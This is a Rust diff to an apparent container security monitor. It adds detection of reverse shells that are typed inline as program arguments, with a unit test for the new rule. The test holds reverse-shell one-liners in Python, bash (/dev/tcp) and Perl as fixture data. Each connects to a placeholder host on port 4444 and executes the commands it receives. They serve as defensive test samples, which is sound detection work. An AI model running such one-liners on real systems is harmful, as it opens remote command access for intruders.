@@ -2,6 +2,7 @@
 
 use std::net::SocketAddr;
 
+use bstr::ByteSlice as _;
 use smallvec::SmallVec;
 
 use super::bare_shells::bare;
@@ -51,6 +52,10 @@ pub(super) fn examine(ctx: &RuleContext<'_>, memory: &mut Piped, process: &Proce
     };
     let (shell, peer) = match peer {
         Some(_) => (shell, peer),
+        None if typed_loop(ctx, process) => match ctx.process.and_then(|p| connected(ctx, p)) {
+            Some(peer) => (pid, Some(peer)),
+            None => (pid, None),
+        },
         None => by_pipe(ctx, memory, process, waits).map_or((pid, None), |(s, p)| (s, Some(p))),
     };
     remember(memory, pid, process, waits);
@@ -72,6 +77,29 @@ pub(super) fn examine(ctx: &RuleContext<'_>, memory: &mut Piped, process: &Proce
         alert = alert.reason(format!("fed through a pipe by: {relay}"));
     }
     alert.into()
+}
+
+/// A program typed as an argument, not the container's own, that reads from a peer and runs
+/// commands: it need not have run one since watching began. What began with the container is its
+/// own service.
+fn typed_loop(ctx: &RuleContext<'_>, process: &Process) -> bool {
+    let own = ctx
+        .container
+        .and_then(crate::state::Container::init)
+        .is_none_or(|init| init == ctx.event.pid);
+    let typed = ctx.process.is_some_and(|p| {
+        attribution::inline(ctx.names(), p) || ctx.names().is_shell(program_roles::of(p))
+    });
+    if own || !typed || ctx.made_at_start(process.started) {
+        return false;
+    }
+    let says = |words: &[&[u8]]| {
+        let mut typed = process.argv.iter().skip(1);
+        typed.any(|argument| words.iter().any(|word| argument.contains_str(word)))
+    };
+    says(catalog::words::TALKS)
+        && says(catalog::words::RECEIVES)
+        && says(catalog::words::RUNS_COMMANDS)
 }
 
 fn remember(memory: &mut Piped, pid: u32, process: &Process, waits: bool) {
@@ -190,6 +218,60 @@ mod tests {
             p.streams = sockets();
         });
         w.only(&[]);
+    }
+
+    #[test]
+    fn a_typed_command_loop_that_waits_for_its_next_command() {
+        let judged = |exe: &str, argv: &[&str]| {
+            let mut w = World::found();
+            let init = w.init();
+            w.found_socket(0, "10.0.0.2:50000", Some(PEER));
+            w.found_process(init, exe, argv, |_| {});
+            w.all("net.reverse-shell").first().map(|f| f.severity)
+        };
+        let python = "import socket,subprocess as p\ns=socket.create_connection(('h',4444))\n\
+                      while 1: s.send(p.getoutput(s.recv(99)).encode())";
+        let bash = "exec 3<>/dev/tcp/h/4444; while read l <&3; do eval \"$l\" >&3; done";
+        for (exe, argv) in [
+            ("/usr/bin/python3", ["python3", "-c", python]),
+            ("/bin/bash", ["bash", "-c", bash]),
+            (
+                "/usr/bin/perl",
+                ["perl", "-e", "use IO::Socket; while(<$s>){print $s `$_`}"],
+            ),
+        ] {
+            assert_eq!(judged(exe, &argv), Some(Severity::Critical), "{argv:?}");
+        }
+        // A worker that a pool starts, a probe, and a client that runs nothing.
+        for argv in [
+            [
+                "python3",
+                "-c",
+                "from multiprocessing.spawn import spawn_main",
+            ],
+            [
+                "python3",
+                "-c",
+                "import socket; socket.create_connection(('h',5432))",
+            ],
+            [
+                "python3",
+                "-c",
+                "import socket,subprocess; s=socket.create_connection(('h',514))\n\
+                 while 1: s.send(subprocess.check_output('uptime'))",
+            ],
+            ["python3", "/app/socket_subprocess.py", "x"],
+        ] {
+            assert_eq!(judged("/usr/bin/python3", &argv), None, "{argv:?}");
+        }
+        // It began with the container.
+        let mut w = World::found();
+        let init = w.init();
+        w.found_socket(0, "10.0.0.2:50000", Some(PEER));
+        w.found_process(init, "/usr/bin/python3", &["python3", "-c", python], |p| {
+            p.started = crate::event::Timestamp(1_700_000_001_000_000_000);
+        });
+        w.none("net.reverse-shell");
     }
 
     #[test]
